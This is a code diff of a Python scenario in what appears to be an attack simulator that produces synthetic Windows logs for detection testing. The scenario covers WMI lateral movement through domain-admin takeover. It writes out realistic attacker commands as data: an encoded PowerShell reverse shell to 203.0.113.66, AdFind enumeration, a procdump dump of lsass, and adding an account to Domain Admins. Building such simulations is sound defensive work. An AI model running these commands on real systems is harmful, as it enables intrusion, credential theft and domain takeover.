@@ -1,8 +1,8 @@
 """From a workstation to a server by WMI, from there to the rights of a domain administrator."""
 
 from tocsin.sources.simulator import deeds, directory
-from tocsin.sources.simulator.actors import HIGH, KERBEROS, LogonWay
-from tocsin.sources.simulator.attack import Move, Stage
+from tocsin.sources.simulator.actors import HIGH, KERBEROS, NEW_CREDENTIALS
+from tocsin.sources.simulator.attack import Move, Playing
 from tocsin.sources.simulator.directory import DOMAIN_ADMINS
 from tocsin.sources.simulator.fleet import Host
 from tocsin.sources.simulator.scripts import encoded_command
@@ -18,73 +18,74 @@ MOVES = (
     Move("An account joins the domain administrators", "TA0003", "T1098.007"),
 )
 
-_NEW_CREDENTIALS = LogonWay(9, b"seclogo", b"Negotiate")
 _STACK = (
     b"C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9d4c4|C:\\\\Windows\\\\System32\\\\KERNELBASE.dll+2d0fe|"
     b"C:\\\\Windows\\\\Temp\\\\procdump64.exe+1dd2e"
 )
 
 
-def play(stage: Stage) -> None:
+def play(playing: Playing) -> None:
     """Write the whole scenario."""
-    fleet = stage.fleet
-    origin = stage.pick(fleet.workstations or fleet.hosts, "origin")
-    server = stage.pick(fleet.servers, "server")
-    _to_the_server(stage, origin, server)
-    _to_the_domain(stage, server, stage.pick(fleet.controllers, "controller"))
+    fleet = playing.fleet
+    origin = playing.pick(fleet.workstations or fleet.hosts, "origin")
+    server = playing.pick(fleet.servers, "server")
+    _to_the_server(playing, origin, server)
+    _to_the_domain(playing, server, playing.pick(fleet.controllers, "controller"))
 
 
-def _to_the_server(stage: Stage, origin: Host, server: Host) -> None:
-    shell = stage.start(0, origin, stage.desktop_of(origin, 400), "cmd", '"C:\\Windows\\system32\\cmd.exe" ')
+def _to_the_server(playing: Playing, origin: Host, server: Host) -> None:
+    shell = playing.start(0, origin, playing.desktop_of(origin, 400), "cmd", '"C:\\Windows\\system32\\cmd.exe" ')
     payload = encoded_command("$s = New-Object Net.Sockets.TCPClient('203.0.113.66', 443); $t = $s.GetStream()")
-    stage.begin(MOVES, 1)
+    playing.begin(MOVES, 1)
     remote = f'wmic  /node:{server.name} process call create "powershell -nop -w hidden -enc {payload}"'
-    wmic = stage.start(30, origin, shell, "wmic", remote)
-    stage.connect(30.4, origin, wmic, server.address.decode(), 135)
-    stage.pause()
-    admin = stage.fleet.admins[stage.number % len(stage.fleet.admins)]
-    session = stage.recorder.logged_on(stage.at(31), server, admin, KERBEROS, address=origin.address, integrity=HIGH)
-    launcher = stage.residents.resident_of(server).launcher
-    host = stage.start(
+    wmic = playing.start(30, origin, shell, "wmic", remote)
+    playing.connect(30.4, origin, wmic, server.address.decode(), 135)
+    playing.pause()
+    admin = playing.fleet.admins[playing.number % len(playing.fleet.admins)]
+    session = playing.recorder.logged_on(
+        playing.at(31), server, admin, KERBEROS, address=origin.address, integrity=HIGH
+    )
+    launcher = playing.residents.resident_of(server).launcher
+    host = playing.start(
         31.5, server, launcher, "wmiprvse", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"
     )
-    stage.begin(MOVES, 2)
-    shell = stage.start(32, server, host, "powershell", f"powershell -nop -w hidden -enc {payload}", session)
-    stage.connect(33, server, shell, "203.0.113.66", 443)
-    stage.begin(MOVES, 3)
-    output = f"\\\\127.0.0.1\\ADMIN$\\__17683{stage.number}.44"
-    stage.start(90, server, host, "cmd", f"cmd.exe /Q /c hostname 1> {output} 2>&1", session)
-    stage.begin(MOVES, 4)
+    playing.begin(MOVES, 2)
+    shell = playing.start(32, server, host, "powershell", f"powershell -nop -w hidden -enc {payload}", session)
+    playing.connect(33, server, shell, "203.0.113.66", 443)
+    playing.begin(MOVES, 3)
+    output = f"\\\\127.0.0.1\\ADMIN$\\__17683{playing.number}.44"
+    playing.start(90, server, host, "cmd", f"cmd.exe /Q /c hostname 1> {output} 2>&1", session)
+    playing.begin(MOVES, 4)
     found = 'C:\\ProgramData\\AdFind.exe  -f "(objectcategory=computer)" -csv name cn operatingSystem'
-    stage.start(400, server, shell, "adfind", found)
-    stage.begin(MOVES, 5)
-    dump = f"C:\\Windows\\Temp\\procdump64.exe  -accepteula -ma lsass.exe C:\\Windows\\Temp\\l{stage.number}.dmp"
-    tool = stage.start(800, server, shell, "procdump", dump)
-    lsass = stage.residents.resident_of(server).lsass
-    deeds.process_accessed(stage.recorder, stage.at(800.5), server, tool, lsass, b"0x1fffff", _STACK)
-    stage.create_file(801, server, tool, f"C:\\Windows\\Temp\\l{stage.number}.dmp")
-    stage.begin(MOVES, 6)
-    stage.recorder.logged_on(
-        stage.at(1300), server, admin, _NEW_CREDENTIALS, address=b"::1", integrity=HIGH, by=session
+    playing.start(400, server, shell, "adfind", found)
+    playing.begin(MOVES, 5)
+    dump = f"C:\\Windows\\Temp\\procdump64.exe  -accepteula -ma lsass.exe C:\\Windows\\Temp\\l{playing.number}.dmp"
+    tool = playing.start(800, server, shell, "procdump", dump)
+    lsass = playing.residents.resident_of(server).lsass
+    deeds.process_accessed(playing.recorder, playing.at(800.5), server, tool, lsass, b"0x1fffff", _STACK)
+    playing.create_file(801, server, tool, f"C:\\Windows\\Temp\\l{playing.number}.dmp")
+    playing.begin(MOVES, 6)
+    playing.recorder.logged_on(
+        playing.at(1300), server, admin, NEW_CREDENTIALS, address=b"::1", integrity=HIGH, by=session
     )
-    stage.pause()
+    playing.pause()
 
 
-def _to_the_domain(stage: Stage, server: Host, controller: Host) -> None:
-    recorder = stage.recorder
-    admin = stage.fleet.admins[(stage.number + 2) % len(stage.fleet.admins)]
-    stage.begin(MOVES, 7)
-    session = recorder.logged_on(stage.at(1400), controller, admin, KERBEROS, address=server.address, integrity=HIGH)
-    stage.begin(MOVES, 8)
-    launcher = stage.residents.resident_of(controller).launcher
-    host = stage.start(
+def _to_the_domain(playing: Playing, server: Host, controller: Host) -> None:
+    recorder = playing.recorder
+    admin = playing.fleet.admins[(playing.number + 2) % len(playing.fleet.admins)]
+    playing.begin(MOVES, 7)
+    session = recorder.logged_on(playing.at(1400), controller, admin, KERBEROS, address=server.address, integrity=HIGH)
+    playing.begin(MOVES, 8)
+    launcher = playing.residents.resident_of(controller).launcher
+    host = playing.start(
         1401, controller, launcher, "wmiprvse", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"
     )
     add = 'group "Domain Admins" svc_deploy /add /domain'
-    net = stage.start(1402, controller, host, "net", f"net  {add}", session)
-    stage.start(1402.2, controller, net, "net1", f"C:\\Windows\\system32\\net1  {add}")
+    net = playing.start(1402, controller, host, "net", f"net  {add}", session)
+    playing.start(1402.2, controller, net, "net1", f"C:\\Windows\\system32\\net1  {add}")
     directory.global_member_added(
-        recorder, stage.at(1402.4), controller, session, stage.fleet.services[4], *DOMAIN_ADMINS
+        recorder, playing.at(1402.4), controller, session, playing.fleet.services[4], *DOMAIN_ADMINS
     )
-    stage.pause()
-    recorder.logged_off(stage.at(1410), controller, session, KERBEROS)
+    playing.pause()
+    recorder.logged_off(playing.at(1410), controller, session, KERBEROS)
